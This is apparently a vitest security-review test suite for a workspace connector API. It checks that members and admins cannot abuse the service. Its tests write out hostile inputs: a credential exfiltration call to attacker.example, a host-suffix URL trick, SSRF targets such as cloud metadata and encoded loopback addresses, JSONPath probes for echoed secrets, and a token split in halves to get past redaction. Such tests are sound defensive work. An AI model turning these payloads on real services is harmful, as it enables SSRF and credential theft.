// Security review: hostile members, workspace admins and outsiders against the API.
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { beforeAll, describe, expect, it } from "vitest";
import type { Connector } from "../worker/db/connectors.ts";
import type { Template } from "../worker/services/templates.ts";
import { envelope, testClient } from "./harness/app.ts";
import { simpleDefinition } from "./harness/definitions.ts";
import { arrangeConnector, executionRow, waitForStatus } from "./harness/executions.ts";
import { adminSql, createTeam, insertCredentialRow } from "./harness/fixtures.ts";
import { startTarget } from "./harness/target.ts";
import { uniqueTag } from "./harness/templates.ts";

type Team = Awaited<ReturnType<typeof createTeam>>;
let team: Team;
const client = testClient({ OUTBOUND_ALLOW_HOSTS: "127.0.0.1:8788" });

beforeAll(async () => {
  team = await createTeam();
  await insertCredentialRow(team.workspaceId, "vendor_token", ["api.vendor.example"]);
});

function connectorsPath(ws = team.workspaceId) {
  return `/v1/workspaces/${ws}/connectors`;
}

async function createAsMember(definition: unknown) {
  return client.json<Connector>(connectorsPath(), {
    method: "POST",
    token: team.member.token,
    body: { name: uniqueTag("attack"), definition },
  });
}

describe("review: a member cannot aim credentials or steps where they must not go", () => {
  it("a member cannot send a credential to a host outside its binding through a templated query parameter", async () => {
    const res = await createAsMember({
      steps: [
        {
          id: "s",
          request: {
            method: "GET",
            url: "https://attacker.example/collect",
            query: { k: "{{workspace.vendor_token}}" },
          },
        },
      ],
    });
    expect(res.status).toBe(422);
    expect(res.body).toMatchObject(envelope("invalid_definition"));
  });

  it("a member cannot widen a bound step to another host by editing its URL later", async () => {
    const created = await createAsMember({
      steps: [
        {
          id: "s",
          request: {
            method: "GET",
            url: "https://api.vendor.example/v1",
            auth: { type: "bearer", credential: "vendor_token" },
          },
        },
      ],
    });
    expect(created.status).toBe(201);
    const res = await client.json(`${connectorsPath()}/${created.body.id}`, {
      method: "PATCH",
      token: team.member.token,
      body: {
        definition: {
          steps: [
            {
              id: "s",
              request: {
                method: "GET",
                url: "https://api.vendor.example.attacker.example/v1",
                auth: { type: "bearer", credential: "vendor_token" },
              },
            },
          ],
        },
      },
    });
    expect(res.status).toBe(422);
  });

  it("a member cannot map a credential onto a contact, also through the workspace alias", async () => {
    const res = await createAsMember({
      ...simpleDefinition(),
      fieldMapping: { "custom_fields.x": "{{workspace.vendor_token}}" },
    });
    expect(res.status).toBe(422);
  });

  it("a member cannot save a step aimed at metadata, loopback or a non-allow-listed port", async () => {
    for (const url of [
      "http://169.254.169.254/latest/meta-data/",
      "http://[::ffff:a9fe:a9fe]/",
      "http://2852039166/",
      "http://metadata.google.internal/computeMetadata/v1/",
      "http://127.0.0.1:5432/",
      "http://127.0.0.1/",
      "http://{{input.x}}.internal/",
    ]) {
      const res = await createAsMember(simpleDefinition(url));
      expect(res.status, url).toBe(422);
    }
  });

  it("a member's dry run against a non-allow-listed loopback port is refused before connecting", async () => {
    // Saved through the database directly (as if validation had a bug): run time refuses it too.
    const [row] = await adminSql()<{ id: string }[]>`
      insert into connectors.connectors (workspace_id, name, definition)
      values (${team.workspaceId}, ${uniqueTag("raw")},
        ${adminSql().json(simpleDefinition("http://127.0.0.1:54329/") as never)})
      returning id`;
    const res = await client.json<{ status: string; steps: { error?: { kind: string } }[] }>(
      `${connectorsPath()}/${row?.id}/test`,
      { method: "POST", token: team.member.token, body: { input: {} } },
    );
    expect(res.status).toBe(200);
    expect(res.body.status).toBe("failed");
    expect(res.body.steps[0]?.error?.kind).toBe("blocked");
  });
});

describe("review: roles and workspaces", () => {
  it("a member cannot run a connector for another workspace's contact, and that contact is untouched", async () => {
    const [contact] = await adminSql()<{ id: string }[]>`
      insert into connectors.contacts (workspace_id, email, company)
      values (${team.otherWorkspaceId}, 'victim@x.test', 'Victim Inc') returning id`;
    const created = await createAsMember({
      ...simpleDefinition("http://127.0.0.1:8788/v1/people?email=a"),
      fieldMapping: { company: "pwned" },
    });
    expect(created.status).toBe(201);
    for (const suffix of ["executions", "test"]) {
      const res = await client.json(`${connectorsPath()}/${created.body.id}/${suffix}`, {
        method: "POST",
        token: team.member.token,
        body: { input: {}, contactId: contact?.id },
      });
      expect([404, 422, 400], `${suffix}: ${JSON.stringify(res.body)}`).toContain(res.status);
    }
    await client.settle();
    const [after] = await adminSql()<{ company: string }[]>`
      select company from connectors.contacts where id = ${contact?.id ?? ""}`;
    expect(after?.company).toBe("Victim Inc");
  });

  it("a workspace admin cannot publish a template as official, featured or pre-approved", async () => {
    const created = await createAsMember(simpleDefinition());
    expect(created.status).toBe(201);
    const path = `/v1/workspaces/${team.workspaceId}/templates`;
    for (const extra of [{ isOfficial: true }, { isFeatured: true }, { review: "approved" }]) {
      const res = await client.json(path, {
        method: "POST",
        token: team.admin.token,
        body: {
          connectorId: created.body.id,
          slug: uniqueTag("pub"),
          visibility: "public",
          ...extra,
        },
      });
      expect(res.status, JSON.stringify(extra)).toBe(400);
    }
    const ok = await client.json<Template>(path, {
      method: "POST",
      token: team.admin.token,
      body: { connectorId: created.body.id, slug: uniqueTag("pub"), visibility: "public" },
    });
    expect(ok.status).toBe(201);
    expect(ok.body).toMatchObject({ isOfficial: false, isFeatured: false });
    const review = await client.json(`/v1/admin/templates/${ok.body.id}/review`, {
      method: "POST",
      token: team.owner.token,
      body: { decision: "approved" },
    });
    expect(review.status).toBe(403);
    const [row] = await adminSql()<{ review: string }[]>`
      select review from connectors.connector_templates where id = ${ok.body.id}`;
    expect(row?.review).toBe("pending");
  });

  it("an admin cannot publish another workspace's connector as a template", async () => {
    const [foreign] = await adminSql()<{ id: string }[]>`
      insert into connectors.connectors (workspace_id, name, definition)
      values (${team.otherWorkspaceId}, ${uniqueTag("foreign")},
        ${adminSql().json(simpleDefinition() as never)})
      returning id`;
    const res = await client.json(`/v1/workspaces/${team.workspaceId}/templates`, {
      method: "POST",
      token: team.admin.token,
      body: { connectorId: foreign?.id, slug: uniqueTag("steal"), visibility: "workspace" },
    });
    expect(res.status).toBe(404);
  });

  it("a member cannot move a connector into another workspace or seed its counters", async () => {
    const created = await createAsMember(simpleDefinition());
    for (const body of [
      { workspaceId: team.otherWorkspaceId },
      { executions: 1000 },
      { createdBy: team.outsider.id },
      { templateId: "00000000-0000-4000-8000-000000000000" },
    ]) {
      const res = await client.json(`${connectorsPath()}/${created.body.id}`, {
        method: "PATCH",
        token: team.member.token,
        body,
      });
      expect(res.status, JSON.stringify(body)).toBe(400);
    }
  });
});

describe("review: an echoed credential through a dry run", () => {
  it("a member cannot learn an echoed credential through JSONPath filters in a dry run", async () => {
    const answers: Record<string, unknown>[] = [];
    for (const secret of ["aaaaaaaaaaaaaaaaaaaa", "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzz"]) {
      const target = await startTarget({ token: secret, echoAuth: true });
      try {
        const local = testClient({ OUTBOUND_ALLOW_HOSTS: target.host });
        const { team: t } = await arrangeConnector(local, target.host, secret);
        const created = await local.json<Connector>(`/v1/workspaces/${t.workspaceId}/connectors`, {
          method: "POST",
          token: t.member.token,
          body: {
            name: uniqueTag("oracle"),
            definition: {
              steps: [
                {
                  id: "probe",
                  request: {
                    method: "GET",
                    url: `http://${target.host}/v1/people?email=a@b.test`,
                    auth: { type: "bearer", credential: "example_token" },
                  },
                  extract: {
                    below_m: "$.debug[?@ < 'Bearer m']",
                    length27: "$[?length(@.authorization) == 27]",
                    exact: "$[?@.authorization == 'Bearer aaaaaaaaaaaaaaaaaaaa']",
                  },
                },
              ],
            },
          },
        });
        expect(created.status, JSON.stringify(created.body)).toBe(201);
        const res = await local.json<{ status: string; output: Record<string, unknown> }>(
          `/v1/workspaces/${t.workspaceId}/connectors/${created.body.id}/test`,
          { method: "POST", token: t.member.token, body: { input: {} } },
        );
        expect(res.status).toBe(200);
        expect(res.body.status).toBe("succeeded");
        expect(JSON.stringify(res.body)).not.toContain(secret);
        answers.push(res.body.output);
      } finally {
        await target.close();
      }
    }
    expect(answers[0]).toEqual(answers[1]);
  });
});

describe("review: a digits-only credential echoed as a JSON number (issue 11 finding 1)", () => {
  it("neither a dry run nor an execution shows its digits, and step 2 cannot carry them to another host", async () => {
    const digits = "4815162342108";
    // The vendor counts what it was sent and answers the bearer token back as a number.
    const vendor = createServer((req, res) => {
      const token = String(req.headers.authorization ?? "").replace(/^Bearer /, "");
      res.writeHead(200, { "content-type": "application/json" });
      const digitsOnly = /^[0-9]+$/.test(token) ? token : "0";
      // It also echoes the key in two halves, which no redaction by value can recognise.
      res.end(
        `{"quantity": ${digitsOnly}, "a": "${digitsOnly.slice(0, 6)}", "b": "${digitsOnly.slice(6)}"}`,
      );
    });
    const sinkSeen: string[] = [];
    const sink = createServer((req, res) => {
      sinkSeen.push(`${req.url} ${JSON.stringify(req.headers)}`);
      res.writeHead(200, { "content-type": "application/json" });
      res.end("{}");
    });
    await Promise.all(
      [vendor, sink].map((s) => new Promise<void>((r) => s.listen(0, "127.0.0.1", r))),
    );
    const vendorHost = `127.0.0.1:${(vendor.address() as AddressInfo).port}`;
    const sinkHost = `127.0.0.1:${(sink.address() as AddressInfo).port}`;
    try {
      const local = testClient({
        OUTBOUND_ALLOW_HOSTS: `${vendorHost},${sinkHost}`,
        RUNNER: "inline",
      });
      const t = await createTeam();
      const put = await local.json(`/v1/workspaces/${t.workspaceId}/credentials/numeric_key`, {
        method: "PUT",
        token: t.owner.token,
        body: { value: digits, allowedHosts: [vendorHost] },
      });
      expect(put.status, JSON.stringify(put.body)).toBe(201);
      const created = await local.json<Connector>(`/v1/workspaces/${t.workspaceId}/connectors`, {
        method: "POST",
        token: t.member.token,
        body: {
          name: uniqueTag("numeric"),
          definition: {
            steps: [
              {
                id: "tags",
                request: {
                  method: "POST",
                  url: `http://${vendorHost}/v1/people/p/tags`,
                  auth: { type: "bearer", credential: "numeric_key" },
                  body: { type: "json", value: { tag: "x" } },
                },
                extract: { q: "$.quantity", a: "$.a", b: "$.b" },
              },
              {
                id: "leak",
                onError: "continue",
                request: { method: "GET", url: `http://${sinkHost}/c/{{steps.tags.q}}` },
              },
              {
                id: "join",
                request: {
                  method: "GET",
                  url: `http://${sinkHost}/j?k={{steps.tags.a}}{{steps.tags.b}}`,
                },
              },
            ],
          },
        },
      });
      expect(created.status, JSON.stringify(created.body)).toBe(201);
      const base = `/v1/workspaces/${t.workspaceId}/connectors/${created.body.id}`;
      const dry = await local.json(`${base}/test`, {
        method: "POST",
        token: t.member.token,
        body: { input: {} },
      });
      expect(dry.status, JSON.stringify(dry.body)).toBe(200);
      expect(JSON.stringify(dry.body)).not.toContain(digits);
      const drySteps = (dry.body as { steps: { id: string; error?: { kind: string } }[] }).steps;
      expect(drySteps.find((step) => step.id === "join")?.error?.kind).toBe("blocked");
      const started = await local.json<{ id: string }>(`${base}/executions`, {
        method: "POST",
        token: t.member.token,
        body: { input: {} },
      });
      expect(started.status, JSON.stringify(started.body)).toBe(202);
      await waitForStatus(started.body.id, ["succeeded", "failed"]);
      const read = await local.json(
        `/v1/workspaces/${t.workspaceId}/executions/${started.body.id}`,
        {
          token: t.member.token,
        },
      );
      expect(read.status).toBe(200);
      expect(JSON.stringify(read.body)).not.toContain(digits);
      expect(JSON.stringify(await executionRow(started.body.id))).not.toContain(digits);
      expect(sinkSeen.join("\n")).not.toContain(digits);
    } finally {
      await Promise.all(
        [vendor, sink].map(
          (s) =>
            new Promise<void>((r) => {
              s.closeAllConnections();
              s.close(() => r());
            }),
        ),
      );
    }
  });
});
